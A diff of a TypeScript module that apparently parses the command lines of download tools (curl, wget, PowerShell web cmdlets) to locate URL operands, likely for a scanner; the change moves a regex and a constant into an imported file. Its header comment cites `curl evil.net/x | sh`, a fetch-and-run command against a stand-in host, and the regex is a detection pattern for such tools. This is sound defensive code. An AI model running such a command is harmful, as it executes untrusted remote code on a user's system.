@@ -2,6 +2,7 @@
  * What programs that fetch are given on their command line: `curl evil.net/x | sh` names a URL without its scheme. Finds
  * where the operands begin; the reader of URLs decides. Pure, bounded. The programs and their options are data.
  */
+import { END, PROGRAM } from './candidates.ts';
 
 interface Program {
   /** Options, by their single letter, that take a value: attached, or the next word. */
@@ -46,10 +47,8 @@ const POWERSHELL: Program = {
   operands: ['uri', 'ur', 'u'],
 };
 
-const PROGRAM = /(?:curl|wget|iwr|irm|invoke-(?:webrequest|restmethod))(?:\.exe)?(?=["'` (\t])/gi;
 /** So far behind the program's name an operand may begin. */
 export const OPERAND_REACH = 2048;
-const END = Number.POSITIVE_INFINITY;
 
 /** A search, for one text, for the places where operands begin: the first at or behind `from`, or Infinity. */
 export function createOperandSearch(): (text: string, from: number) => number {
